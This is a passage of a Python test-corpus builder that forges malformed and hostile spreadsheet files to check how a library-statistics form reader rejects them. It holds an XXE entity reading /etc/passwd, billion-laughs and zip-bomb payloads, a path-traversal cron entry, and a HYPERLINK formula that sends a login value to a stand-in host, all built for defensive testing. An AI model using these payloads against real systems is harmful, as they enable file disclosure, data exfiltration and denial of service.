"""Build the corpus of broken, tampered and hostile returned files.

    python tests/corpus/make_corpus.py OUT_DIR        # writes the files and manifest.json

or, from a test: ``build_corpus(out_dir) -> list[CorpusCase]``.

Every case is one file with the verdict and code :func:`xl_afbp.reader.read_submission`
must give it. A few cases only make sense in a batch (the same library twice, one id
claimed by two libraries, a byte-identical copy): their ``final_verdict``/``final_code``
is what the consolidator must decide; the reader accepts each file on its own.

Files are made from real generated forms: values are typed with ``fill_form`` once
(openpyxl, like a librarian's save without recalculation), the LibreOffice-saved variant
(cached values, shared strings) comes from one ``recalculate`` call, the .ods and .pdf
from LibreOffice too (run in parallel). Everything else is raw zip surgery: members are
rewritten with :mod:`zipfile`, never re-saved by openpyxl, so the XML is exactly what a
hostile or broken writer would produce.
"""

from __future__ import annotations

import io
import json
import random
import re
import shutil
import struct
import sys
import zipfile
from concurrent.futures import ThreadPoolExecutor
from dataclasses import asdict, dataclass
from pathlib import Path
from typing import Any, Callable
from xml.sax.saxutils import escape

ROOT = Path(__file__).resolve().parents[2]
for _path in (ROOT, ROOT / "tests"):  # run as a script from anywhere (the corpus package lives in tests/)
    if str(_path) not in sys.path:
        sys.path.insert(0, str(_path))

from xl_afbp import names  # noqa: E402
from xl_afbp.formdata import FormData  # noqa: E402
from corpus.round_two import build_round_two, percent_source  # noqa: E402

SAMPLE_LIBS = ROOT / "xl_afbp" / "data" / "sample_libraries.csv"

ACCEPTED, WARNED, REJECTED = "accepted", "accepted_with_warnings", "rejected"


@dataclass
class CorpusCase:
    file: str  # file name inside the corpus folder
    kind: str  # what is wrong with it
    verdict: str  # expected verdict of read_submission
    code: str  # expected code of read_submission
    note: str = ""
    group: str | None = None  # batch-level cases: files judged together
    final_verdict: str | None = None  # batch-level: the consolidator's final status
    final_code: str | None = None

    @property
    def batch_level(self) -> bool:
        """Whether the consolidator (its batch stage) decides more than the reader did."""
        return self.group is not None or self.final_code is not None


# ============================================================================ zip helpers
Members = list[tuple[str, bytes]]


def members(path: Path) -> Members:
    with zipfile.ZipFile(path) as zf:
        return [(i.filename, zf.read(i)) for i in zf.infolist()]


def write_zip(path: Path, items: Members) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in items:
            zf.writestr(name, data)
    return path


Change = "bytes | None | Callable[[bytes], bytes]"


def rewrite(src: Path, dst: Path, change: dict[str, Any] | None = None, add: Members = ()) -> Path:
    """Copy a zip, replacing (bytes), editing (callable) or dropping (None) members."""
    change = change or {}
    out: Members = []
    for name, data in members(src):
        if name in change:
            c = change[name]
            if c is None:
                continue
            data = c(data) if callable(c) else c
        out.append((name, data))
    return write_zip(dst, out + list(add))


def sheet_parts(path: Path) -> dict[str, str]:
    """Sheet title → member name (a tiny regex parse, independent of the reader)."""
    with zipfile.ZipFile(path) as zf:
        wb = zf.read("xl/workbook.xml").decode()
        rels = zf.read("xl/_rels/workbook.xml.rels").decode()
    targets = {}
    for m in re.finditer(r"<Relationship\b([^>]*)/?>", rels):
        a = dict(re.findall(r'(\w+)="([^"]*)"', m.group(1)))
        t = a["Target"]
        targets[a["Id"]] = t.lstrip("/") if t.startswith("/") else "xl/" + t
    out = {}
    for m in re.finditer(r"<sheet\b([^>]*)/?>", wb):
        a = dict(re.findall(r'([\w:]+)="([^"]*)"', m.group(1)))
        out[a["name"].replace("&amp;", "&")] = targets[a["r:id"]]
    return out


def defined_names(path: Path) -> dict[str, str]:
    with zipfile.ZipFile(path) as zf:
        wb = zf.read("xl/workbook.xml").decode()
    out = {}
    for m in re.finditer(r'<definedName\b[^>]*\bname="([^"]+)"[^>]*>([^<]*)</definedName>', wb):
        out[m.group(1)] = m.group(2).replace("&apos;", "'").replace("&amp;", "&")
    return out


def _col(letters: str) -> int:
    n = 0
    for ch in letters:
        n = n * 26 + ord(ch) - 64
    return n


def _letters(col: int) -> str:
    out = ""
    while col:
        col, rem = divmod(col - 1, 26)
        out = chr(65 + rem) + out
    return out


def name_cell(path: Path, name: str, offset: int = 0) -> tuple[str, str]:
    """(sheet title, "C9") of a defined name's first cell (+ offset columns)."""
    text = defined_names(path)[name]
    m = re.match(r"^'?(.*?)'?!\$?([A-Z]+)\$?(\d+)", text)
    assert m, text
    return m.group(1).replace("''", "'"), f"{_letters(_col(m.group(2)) + offset)}{m.group(3)}"


def cell_xml(ref: str, value: Any, style: str | None = None, formula: str | None = None) -> bytes:
    s = f' s="{style}"' if style else ""
    f = f"<f>{escape(formula)}</f>" if formula is not None else ""
    if value is None:
        return f'<c r="{ref}"{s}>{f}</c>'.encode() if f else f'<c r="{ref}"{s}/>'.encode()
    if isinstance(value, bool):
        return f'<c r="{ref}"{s} t="b">{f}<v>{int(value)}</v></c>'.encode()
    if isinstance(value, (int, float)):
        return f'<c r="{ref}"{s} t="n">{f}<v>{value!r}</v></c>'.encode()
    if f:
        return f'<c r="{ref}"{s} t="str">{f}<v>{escape(str(value))}</v></c>'.encode()
    return f'<c r="{ref}"{s} t="inlineStr"><is><t xml:space="preserve">{escape(str(value))}</t></is></c>'.encode()


def set_cells(xml: bytes, values: dict[str, Any], formulas: dict[str, str] | None = None) -> bytes:
    """Write values into cells of a sheet's XML (keeping each cell's style); cells that do
    not exist are inserted in column order; rows too."""
    formulas = formulas or {}
    for ref, value in values.items():
        pat = re.compile(rb'<c r="' + ref.encode() + rb'"([^>]*?)(?:/>|>.*?</c>)', re.S)
        m = pat.search(xml)
        if m:
            style = re.search(rb's="(\d+)"', m.group(1))
            new = cell_xml(ref, value, style.group(1).decode() if style else None, formulas.get(ref))
            xml = xml[: m.start()] + new + xml[m.end() :]
            continue
        col, row = re.match(r"([A-Z]+)(\d+)", ref).groups()  # type: ignore[union-attr]
        new = cell_xml(ref, value, None, formulas.get(ref))
        rm = re.search(rb'<row r="' + row.encode() + rb'"[^>]*?(/>|>(.*?)</row>)', xml, re.S)
        if rm is None:
            later = [m for m in re.finditer(rb'<row r="(\d+)"', xml) if int(m.group(1)) > int(row)]
            pos = later[0].start() if later else xml.index(b"</sheetData>")
            xml = xml[:pos] + f'<row r="{row}">'.encode() + new + b"</row>" + xml[pos:]
        elif rm.group(1) == b"/>":
            xml = xml[: rm.start()] + f'<row r="{row}">'.encode() + new + b"</row>" + xml[rm.end() :]
        else:
            body_start = rm.start(2)
            pos = rm.end(2)
            for cm in re.finditer(rb'<c r="([A-Z]+)\d+"', rm.group(2)):
                if _col(cm.group(1).decode()) > _col(col):
                    pos = body_start + cm.start()
                    break
            xml = xml[:pos] + new + xml[pos:]
    return xml


def patch_cells(src: Path, dst: Path, values: dict[tuple[str, str], Any], formulas: dict[tuple[str, str], str] | None = None, extra: dict[str, Any] | None = None) -> Path:
    """Set cells given as (sheet title, ref) in a copy of ``src``."""
    parts = sheet_parts(src)
    by_part: dict[str, dict[str, Any]] = {}
    f_by_part: dict[str, dict[str, str]] = {}
    for (sheet, ref), v in values.items():
        by_part.setdefault(parts[sheet], {})[ref] = v
    for (sheet, ref), f in (formulas or {}).items():
        f_by_part.setdefault(parts[sheet], {})[ref] = f
    change: dict[str, Any] = dict(extra or {})
    for part, vals in by_part.items():
        prev = change.get(part)
        change[part] = lambda x, vals=vals, part=part, prev=prev: set_cells(prev(x) if callable(prev) else x, vals, f_by_part.get(part))
    return rewrite(src, dst, change)


def form_values(path: Path, data: FormData) -> dict[tuple[str, str], Any]:
    """(sheet, ref) → value of every input of ``data``, found through the defined names."""
    out: dict[tuple[str, str], Any] = {}
    for nr, v in data.items.items():
        out[name_cell(path, names.item(nr))] = v
    for nr, v in data.services.items():
        out[name_cell(path, names.service(nr))] = v
    dn = defined_names(path)
    for key, v in data.basic.items():
        if names.basic(key) in dn and v is not None:
            out[name_cell(path, names.basic(key))] = v
    for address, row in data.k03.items():
        for u, v in enumerate(row):
            if v is not None:
                out[name_cell(path, names.k03_row(address), u)] = v
    return out


def type_in(src: Path, dst: Path, data: FormData, **kw: Any) -> Path:
    """Type ``data`` into a generated form by raw XML (fast; like fill_form, which drops
    the formulas' cached results as openpyxl does: a generated form carries results
    computed for its prefilled data, which typing makes stale)."""
    from xl_afbp.workbook.cached import strip_cached_values

    extra = dict(kw.pop("extra", None) or {})
    for part in sheet_parts(src).values():
        edit = extra.get(part)
        extra[part] = lambda x, edit=edit: strip_cached_values((edit(x) if callable(edit) else x).decode("utf-8")).encode("utf-8")
    return patch_cells(src, dst, form_values(src, data), extra=extra, **kw)


def set_core_modified(stamp: str) -> Callable[[bytes], bytes]:
    def edit(xml: bytes) -> bytes:
        return re.sub(rb"(<dcterms:modified[^>]*>)[^<]*(</dcterms:modified>)", rb"\g<1>" + stamp.encode() + rb"\g<2>", xml)

    return edit


def meta_patch(path: Path, **changes: Any) -> dict[tuple[str, str], Any]:
    from xl_afbp.workbook.form import META, META_KEYS

    return {(META, f"B{2 + META_KEYS.index(k)}"): v for k, v in changes.items()}


def rename_defined_name(xml: bytes, name: str, target: str | None) -> bytes:
    """Point a defined name elsewhere (``target``) or delete it (None)."""
    pat = re.compile(rb'<definedName\b[^>]*\bname="' + name.encode() + rb'"[^>]*>[^<]*</definedName>')
    m = pat.search(xml)
    assert m, name
    if target is None:
        return xml[: m.start()] + xml[m.end() :]
    new = re.sub(rb">[^<]*</definedName>$", b">" + escape(target).encode() + b"</definedName>", m.group(0))
    return xml[: m.start()] + new + xml[m.end() :]


def patch_zip_header(data: bytes, member: str, *, usize: int | None = None, flags_or: int = 0) -> bytes:
    """Change the declared uncompressed size and/or flag bits of a member, in its local
    header and in the central directory (raw bytes; zipfile cannot write such lies)."""
    buf = bytearray(data)
    zf = zipfile.ZipFile(io.BytesIO(data))
    info = zf.getinfo(member)
    lo = info.header_offset
    if usize is not None:
        struct.pack_into("<L", buf, lo + 22, usize)
    if flags_or:
        struct.pack_into("<H", buf, lo + 6, struct.unpack_from("<H", buf, lo + 6)[0] | flags_or)
    cd = buf.find(b"PK\x01\x02")
    while cd >= 0:
        n_len, e_len, c_len = struct.unpack_from("<HHH", buf, cd + 28)
        if bytes(buf[cd + 46 : cd + 46 + n_len]).decode("utf-8", "replace") == member:
            if usize is not None:
                struct.pack_into("<L", buf, cd + 24, usize)
            if flags_or:
                struct.pack_into("<H", buf, cd + 8, struct.unpack_from("<H", buf, cd + 8)[0] | flags_or)
            break
        cd = buf.find(b"PK\x01\x02", cd + 46 + n_len + e_len + c_len)
    return bytes(buf)


def minimal_ole() -> bytes:
    """A 512-byte CFB header (what a renamed .xls starts with) plus an empty sector."""
    header = bytearray(512)
    header[0:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHH", header, 24, 0x3E, 3, 0xFFFE, 9)  # minor, major (v3), byte order, sector shift
    struct.pack_into("<H", header, 32, 6)  # mini sector shift
    struct.pack_into("<L", header, 44, 1)  # FAT sectors
    struct.pack_into("<L", header, 48, 0xFFFFFFFE)  # first directory sector (none)
    struct.pack_into("<L", header, 56, 4096)
    struct.pack_into("<LL", header, 60, 0xFFFFFFFE, 0)
    struct.pack_into("<LL", header, 68, 0xFFFFFFFE, 0)
    for i in range(109):
        struct.pack_into("<L", header, 76 + 4 * i, 0xFFFFFFFF)
    return bytes(header) + b"\xff" * 512


LAUGHS = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10) for i in range(1, 10))
    + b"]>\n"
)
XXE = b'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'


def with_dtd(dtd: bytes, entity: bytes) -> Callable[[bytes], bytes]:
    """Put a DTD before the root element and use its entity in the first text node."""

    def edit(xml: bytes) -> bytes:
        xml = re.sub(rb"^<\?xml[^>]*\?>\s*", b"", xml)
        xml = re.sub(rb"<t>([^<]*)</t>", rb"<t>" + entity + rb"\1</t>", xml, count=1)
        xml = re.sub(rb'<v>([^<]*)</v>', rb"<v>" + entity + rb"</v>", xml, count=1) if entity not in xml else xml
        return dtd + xml

    return edit


# ============================================================================ the corpus
def base_library():
    """The library whose form is the base of most cases, and the values typed into it."""
    from xl_afbp.generate import read_libraries

    libs, _ = read_libraries(SAMPLE_LIBS)
    lib = libs[4]  # Gminna Biblioteka Publiczna w Białogardzie: 3 branches
    return lib, _simulated(lib, 1)


def _simulated(lib, seed: int) -> FormData:
    from xl_afbp.demo.simulate import simulate_form

    return simulate_form(lib.mieszkancy, lib.filie, seed=seed, podtyp=lib.podtyp, organizator=lib.organizator, www=lib.www or None, nazwa=lib.nazwa)


def build_corpus(out_dir: Path | str, *, libreoffice: bool = True) -> list[CorpusCase]:
    """Write every case into ``out_dir`` (plus manifest.json) and return the cases."""
    from xl_afbp.generate import generate_batch, read_libraries
    from xl_afbp.workbook.fill import fill_form

    out = Path(out_dir)
    out.mkdir(parents=True, exist_ok=True)
    work = out / "_work"
    if work.exists():
        shutil.rmtree(work)
    work.mkdir()
    cases: list[CorpusCase] = []

    def case(file: str, kind: str, verdict: str, code: str, note: str = "", **kw: Any) -> Path:
        cases.append(CorpusCase(file, kind, verdict, code, note, **kw))
        return out / file

    libs, _ = read_libraries(SAMPLE_LIBS)
    gen = generate_batch(libs, work / "gen", progress=False, workers=1)
    by_id = {p.stem: p for p in gen}
    lib, data = base_library()
    blank = by_id[lib.id]

    # the bases: typed with openpyxl (no cached values), then saved by LibreOffice
    filled = fill_form(blank, data, work / "filled.xlsx")
    lo_jobs = {}
    saved: dict[str, Path] = {}
    lo_extra: dict[str, Path] = {}
    if libreoffice:
        from xl_afbp.demo import libreoffice as lo

        percent = percent_source(filled, work, data)
        with ThreadPoolExecutor(4) as pool:
            lo_jobs["xlsx"] = pool.submit(lo.recalculate, [filled, percent], work / "lo", workers=1)
            lo_jobs["ods"] = pool.submit(lo._convert, [filled], work / "ods", "ods:calc8", 1, None)
            lo_jobs["pdf"] = pool.submit(lo.to_pdf, [filled], work / "pdf", workers=1)
            lo_jobs["xls"] = pool.submit(lo._convert, [filled], work / "xls", "xls:MS Excel 97", 1, None)
            results = {k: f.result() for k, f in lo_jobs.items()}
        saved = {k: results[k][filled] for k in ("xlsx", "ods", "pdf")}
        lo_extra = {"percent": results["xlsx"][percent], "xls": results["xls"][filled]}
    rnd = random.Random(20160)

    # -- controls: good files -------------------------------------------------------------
    shutil.copy(filled, case("ok_openpyxl.xlsx", "valid form typed and saved by openpyxl (no cached values)", ACCEPTED, "ok"))
    if libreoffice:
        shutil.copy(saved["xlsx"], case("ok_libreoffice.xlsx", "valid form saved by LibreOffice (cached values, shared strings)", ACCEPTED, "ok"))
    type_in(blank, case("ok_raw_typed.xlsx", "valid form typed by raw XML (inline strings)", ACCEPTED, "ok"), data)

    # -- not a workbook at all -----------------------------------------------------------------
    case("empty.xlsx", "empty file (0 bytes)", REJECTED, "empty_file").write_bytes(b"")
    case("random_bytes.xlsx", "random bytes named .xlsx", REJECTED, "not_zip").write_bytes(b"\x00\x13" + rnd.randbytes(3000))
    raw = filled.read_bytes()
    case("truncated.xlsx", "zip cut in half (interrupted download)", REJECTED, "corrupt_zip").write_bytes(raw[: len(raw) // 2])
    case("xls_renamed.xlsx", "legacy .xls (OLE header) renamed to .xlsx", REJECTED, "wrong_format").write_bytes(minimal_ole())
    case("csv_renamed.xlsx", "CSV export renamed to .xlsx", REJECTED, "wrong_format").write_bytes("id;nazwa;P01;P02\nZP-3201022;Gminna Biblioteka Publiczna;8618;1415\n".encode("cp1250"))
    case("html_renamed.xlsx", "HTML table (\"save as web page\") renamed to .xlsx", REJECTED, "wrong_format").write_bytes("<html><body><table><tr><td>P01</td><td>8618</td></tr></table></body></html>".encode())
    case("xml2003_renamed.xlsx", "Excel 2003 XML spreadsheet renamed to .xlsx", REJECTED, "wrong_format").write_bytes(b'<?xml version="1.0"?>\n<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="Formularz"/></Workbook>')
    case("png_renamed.xlsx", "a photo/scan of the form renamed to .xlsx", REJECTED, "wrong_format").write_bytes(b"\x89PNG\r\n\x1a\n" + rnd.randbytes(500))
    if libreoffice:
        shutil.copy(saved["ods"], case("ods_renamed.xlsx", "OpenDocument .ods (made by LibreOffice) renamed to .xlsx: read by its content", ACCEPTED, "ok"))
        shutil.copy(saved["pdf"], case("pdf_renamed.xlsx", "PDF print (made by LibreOffice) renamed to .xlsx", REJECTED, "wrong_format"))
    write_zip(case("docx_renamed.xlsx", "Word document renamed to .xlsx", REJECTED, "wrong_format"), [("[Content_Types].xml", b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'), ("word/document.xml", b"<w:document/>")])
    write_zip(case("xlsb_renamed.xlsx", "binary workbook .xlsb renamed to .xlsx", REJECTED, "wrong_format"), [("[Content_Types].xml", b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/xl/workbook.bin" ContentType="application/vnd.ms-excel.sheet.binary.macroEnabled.main"/></Types>'), ("xl/workbook.bin", b"\x83\x01\x00")])
    write_zip(case("zip_of_form.xlsx", "the form packed into a .zip archive, renamed", REJECTED, "wrong_format"), [("formularz.xlsx", raw)])

    # -- encrypted, macros, links, embedded objects, odd parts ------------------------------------
    from msoffcrypto.format.ooxml import OOXMLFile

    enc = io.BytesIO()
    OOXMLFile(io.BytesIO(raw)).encrypt("Biblioteka2016", enc)
    case("encrypted.xlsx", "workbook encrypted with a password (Excel: Encrypt with password)", REJECTED, "encrypted").write_bytes(enc.getvalue())
    case("zip_encrypted_member.xlsx", "a zip member with the 'encrypted' flag (zip password)", REJECTED, "encrypted").write_bytes(patch_zip_header(raw, "xl/worksheets/sheet1.xml", flags_or=0x1))
    ct_macro = lambda x: x.replace(b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml", b"application/vnd.ms-excel.sheet.macroEnabled.main+xml")  # noqa: E731
    rewrite(filled, case("xlsm_vba.xlsx", ".xlsm with a VBA project renamed to .xlsx", REJECTED, "macro"), {"[Content_Types].xml": lambda x: ct_macro(x).replace(b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>')}, add=[("xl/vbaProject.bin", minimal_ole())])
    rewrite(filled, case("macro_content_type.xlsx", "macro-enabled content type without a VBA part", REJECTED, "macro"), {"[Content_Types].xml": ct_macro})
    rewrite(filled, case("activex.xlsx", "an ActiveX control part", REJECTED, "macro"), add=[("xl/activeX/activeX1.xml", b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>')])
    rewrite(
        filled,
        case("external_links.xlsx", "a link to another workbook (xl/externalLinks)", REJECTED, "external_links"),
        {"[Content_Types].xml": lambda x: x.replace(b"</Types>", b'<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>')},
        add=[
            ("xl/externalLinks/externalLink1.xml", b'<?xml version="1.0"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook r:id="rId1" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/></externalLink>'),
            ("xl/externalLinks/_rels/externalLink1.xml.rels", b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="file:///C:/budzet/2016.xlsx" TargetMode="External"/></Relationships>'),
        ],
    )
    rewrite(filled, case("data_connection.xlsx", "an external data connection (xl/connections.xml)", REJECTED, "external_links"), add=[("xl/connections.xml", b'<?xml version="1.0"?><connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1" name="q" type="5"/></connections>')])
    rewrite(filled, case("embedded_object.xlsx", "an embedded OLE object (xl/embeddings)", REJECTED, "embedded_objects"), add=[("xl/embeddings/oleObject1.bin", minimal_ole())])
    rewrite(filled, case("unexpected_part.xlsx", "an unknown member (an .exe) inside the zip", REJECTED, "unexpected_parts"), add=[("xl/media/zalacznik.exe", b"MZ" + rnd.randbytes(200))])
    rewrite(filled, case("path_traversal.xlsx", "a member named ../../ (path traversal)", REJECTED, "unexpected_parts"), add=[("../../etc/cron.d/x", b"* * * * * root true\n")])

    # -- size limits ------------------------------------------------------------------------------
    rewrite(filled, case("too_large.xlsx", "over 5 MB (a big photo pasted in)", REJECTED, "too_large"), add=[("xl/media/image1.png", b"\x89PNG\r\n\x1a\n" + rnd.randbytes(5_200_000))])
    rewrite(filled, case("too_many_entries.xlsx", "250 zip members", REJECTED, "too_many_entries"), add=[(f"xl/media/image{i}.png", b"\x89PNG" + bytes([i % 256])) for i in range(250)])
    rewrite(filled, case("zip_bomb_ratio.xlsx", "a member inflating 1000x (30 MB of spaces)", REJECTED, "zip_bomb"), {"xl/worksheets/sheet1.xml": lambda x: x.replace(b"</worksheet>", b" " * 30_000_000 + b"</worksheet>")})
    case("zip_bomb_declared.xlsx", "a member declaring 3 GB uncompressed", REJECTED, "zip_bomb").write_bytes(patch_zip_header(raw, "xl/worksheets/sheet8.xml", usize=3_000_000_000))
    parts = sheet_parts(filled)
    form_part, k03_part, ind_part, meta_part = parts["Formularz"], parts["K-03"], parts["Wskaźniki"], parts["_meta"]
    case("size_lie.xlsx", "a sheet larger than its declared size (CRC/size mismatch)", REJECTED, "corrupt_zip").write_bytes(patch_zip_header(raw, form_part, usize=1000))
    rewrite(filled, case("million_rows_dimension.xlsx", "a sheet declaring 1,048,576 rows (<dimension>)", REJECTED, "too_many_rows"), {form_part: lambda x: re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:J1048576"', x)})
    rows = b"".join(b'<row r="%d"><c r="A%d"><v>1</v></c></row>' % (r, r) for r in range(200, 25_200))
    rewrite(filled, case("many_rows_streamed.xlsx", "25,000 real rows streamed into a read sheet (dimension unchanged)", REJECTED, "too_many_rows"), {k03_part: lambda x: x.replace(b"</sheetData>", rows + b"</sheetData>")})
    cols = [_letters(c).encode() for c in range(1, 41)]
    big = b"".join(b'<row r="%d">' % r + b"".join(b'<c r="%s%d" t="n"><v>%d</v></c>' % (c, r, r % 97) for c in cols) + b"</row>" for r in range(200, 19_900))
    rewrite(filled, case("big_but_legal.xlsx", "26 MB of extra cells in a read sheet, within every limit (slow: ~1 s)", ACCEPTED, "ok", note="used by the timeout tests"), {k03_part: lambda x: x.replace(b"</sheetData>", big + b"</sheetData>")})
    rewrite(filled, case("far_column.xlsx", "a cell in column XFD of a read sheet", REJECTED, "too_many_columns"), {form_part: lambda x: set_cells(x, {"XFD5": 1})})

    # -- XML entities -----------------------------------------------------------------------------
    rewrite(filled, case("laughs_sheet.xlsx", "billion laughs (entity expansion) in a sheet", REJECTED, "xml_entities"), {form_part: with_dtd(LAUGHS, b"&lol9;")})
    rewrite(filled, case("xxe_sheet.xlsx", "external entity (XXE, file:///etc/passwd) in a sheet", REJECTED, "xml_entities"), {form_part: with_dtd(XXE, b"&xxe;")})
    rewrite(filled, case("xxe_workbook.xlsx", "external entity in workbook.xml", REJECTED, "xml_entities"), {"xl/workbook.xml": lambda x: XXE + re.sub(rb"^<\?xml[^>]*\?>\s*", b"", x)})
    rewrite(filled, case("laughs_unread_sheet.xlsx", "billion laughs in a sheet the reader never parses (_teryt)", REJECTED, "xml_entities"), {parts["_teryt"]: with_dtd(LAUGHS, b"&lol9;")})
    if libreoffice:
        lo_file = saved["xlsx"]
        rewrite(lo_file, case("laughs_sst.xlsx", "billion laughs in sharedStrings.xml (LibreOffice-saved file)", REJECTED, "xml_entities"), {"xl/sharedStrings.xml": with_dtd(LAUGHS, b"&lol9;")})
        rewrite(lo_file, case("xxe_sst.xlsx", "external entity (XXE) in sharedStrings.xml", REJECTED, "xml_entities"), {"xl/sharedStrings.xml": with_dtd(XXE, b"&xxe;")})

    # -- not our form, other editions, _meta -----------------------------------------------------------
    from openpyxl import Workbook

    wb = Workbook()
    wb.active.title = "Arkusz1"
    wb.active.append(["Liczba mieszkańców", 8618])
    wb.save(case("not_our_form.xlsx", "some other workbook", REJECTED, "not_our_form"))
    wb = Workbook()
    wb.active.append(["a", 1])
    wb.create_sheet("_meta").append(["form", "inny"])
    wb.save(case("other_meta_sheet.xlsx", "another workbook that happens to have a _meta sheet", REJECTED, "not_our_form"))
    patch_cells(filled, case("edition_2017.xlsx", "our form of another edition (2017, spec 1.1.0)", REJECTED, "wrong_edition"), meta_patch(filled, edition_year=2017, spec_version="1.1.0", spec_sha256="ab" * 32))
    patch_cells(filled, case("year_2015.xlsx", "our form for another data year (2015)", REJECTED, "wrong_edition"), meta_patch(filled, year=2015))
    other_edition = _other_edition_form(work)
    if other_edition is not None:
        shutil.copy(other_edition, case("other_edition.xlsx", "a real form generated from another edition of the spec (2017, 1.1.0)", REJECTED, "wrong_edition"))
    patch_cells(filled, case("meta_sha_altered.xlsx", "_meta spec hash of no known edition (year/version unchanged)", REJECTED, "meta_altered"), meta_patch(filled, spec_sha256="0" * 64))
    patch_cells(filled, case("meta_generator_altered.xlsx", "_meta generator changed", REJECTED, "meta_altered"), meta_patch(filled, generator="ręcznie"))
    patch_cells(filled, case("meta_units_altered.xlsx", "_meta units not a number", REJECTED, "meta_altered"), meta_patch(filled, units="dużo"))
    _without_meta(filled, case("meta_missing.xlsx", "the _meta sheet deleted (data copied into a new workbook)", REJECTED, "meta_missing"), meta_part)

    # -- tampering ------------------------------------------------------------------------------------
    no_protection = lambda x: re.sub(rb"<sheetProtection\b[^>]*/>", b"", x)  # noqa: E731
    typed = {ref: 12.5 for ref in _computed_refs(filled, "Wskaźniki", 5)}
    edits: dict[str, Any] = {p: no_protection for p in parts.values()}
    edits["xl/workbook.xml"] = lambda x: re.sub(rb"<workbookProtection\b[^>]*/>", b"", x)
    edits[ind_part] = lambda x: set_cells(no_protection(x), typed)
    rewrite(filled, case("formulas_replaced.xlsx", "protection removed, indicator formulas replaced by typed numbers", WARNED, "formulas_replaced"), edits)
    if libreoffice:
        lo_parts = sheet_parts(lo_file)
        strip_f = lambda x: re.sub(rb"<f\b[^>]*>[^<]*</f>", b"", x)  # noqa: E731
        rewrite(lo_file, case("formulas_pasted_as_values.xlsx", "LibreOffice file: all indicators pasted as values (same numbers)", WARNED, "formulas_replaced"), {lo_parts["Wskaźniki"]: strip_f})
        ref = _computed_refs(lo_file, "Wskaźniki", 1)[0]
        rewrite(lo_file, case("cached_mismatch.xlsx", "LibreOffice file: one cached indicator value edited (formula kept)", WARNED, "cached_mismatch"), {lo_parts["Wskaźniki"]: lambda x, ref=ref: re.sub(rb'(<c r="' + ref.encode() + rb'"[^>]*>.*?<v>)[^<]*(</v>)', rb"\g<1>987654.321\g<2>", x, count=1, flags=re.S)})
        sheet, p04 = name_cell(lo_file, names.item(4))
        v4 = data.items[4]
        rewrite(lo_file, case("input_formula.xlsx", f"a formula typed into an input (={v4 - 1000}+1000)", WARNED, "input_formulas"), {lo_parts[sheet]: lambda x: set_cells(x, {p04: v4}, {p04: f"{v4 - 1000}+1000"})})
    sheet, p04 = name_cell(filled, names.item(4))
    row = re.match(r"[A-Z]+(\d+)", p04).group(1)  # type: ignore[union-attr]
    moved_to = f"L{row}"
    patch_cells(
        filled,
        case("input_moved.xlsx", "a locked input moved (P_04 now points to another cell holding the value)", WARNED, "layout_changed", note=f"data.items[4] == {data.items[4]!r}"),
        {(sheet, p04): None, (sheet, moved_to): data.items[4]},
        extra={"xl/workbook.xml": lambda x: rename_defined_name(x, names.item(4), f"'{sheet}'!${moved_to[0]}${row}")},
    )
    rewrite(filled, case("input_name_deleted.xlsx", "the defined name of an input deleted", REJECTED, "layout_broken"), {"xl/workbook.xml": lambda x: rename_defined_name(x, names.item(4), None)})
    target = defined_names(filled)[names.item(4)]
    rewrite(filled, case("inputs_overlap.xlsx", "two input names on one cell (P_05 → P_04's cell)", REJECTED, "layout_broken"), {"xl/workbook.xml": lambda x: rename_defined_name(x, names.item(5), target)})

    # -- data problems: accepted, flagged ------------------------------------------------------------
    def variant(file: str, kind: str, changes: dict[int, Any], note: str = "") -> None:
        vals = {name_cell(filled, names.item(nr)): v for nr, v in changes.items()}
        patch_cells(filled, case(file, kind, WARNED, "invalid_values", note=note or f"items {sorted(changes)}"), vals)

    variant("text_in_numbers.xlsx", "text in numeric items", {4: "dużo", 16: "12 345"})
    variant("negative_numbers.xlsx", "negative numbers", {7: -5, 26: -1000})
    variant("hash_not_allowed.xlsx", "'#' where only items 3 and 15 allow it", {26: "#"})
    variant("fte_three_decimals.xlsx", "FTE with 3 decimals", {22: round(float(data.items[22]) + 0.001, 3)})
    variant("money_with_grosze.xlsx", "money with grosze", {26: 123456.78})
    variant("huge_numbers.xlsx", "numbers near the float limit (1e308) in items", {4: 1e308, 14: 1.7e308})
    huge = {name_cell(filled, names.k03_row("D6.P1.W1"), u): 1.7e308 for u in (0, 1)}
    patch_cells(filled, case("huge_k03_sum.xlsx", "K-03 values whose sum overflows a float (1.7e308 twice)", WARNED, "invalid_values", note="the engine must not raise; the values are out of the K-03 range"), huge)
    variant("date_in_number.xlsx", "a date where a number belongs (Polish Excel turns 1.5 into 1 May)", {})
    # the date case: a serial number shown with a date format (style of the date cells of Excel)
    _date_variant(filled, out / "date_in_number.xlsx", name_cell(filled, names.item(22)))
    formula_text = dict(data.basic)
    formula_text["NAZWA"] = '=HYPERLINK("http://zlo.example/?q="&B_LOGIN,"Kliknij")'
    formula_text["ORGANIZATOR"] = "@SUM(1+1)"
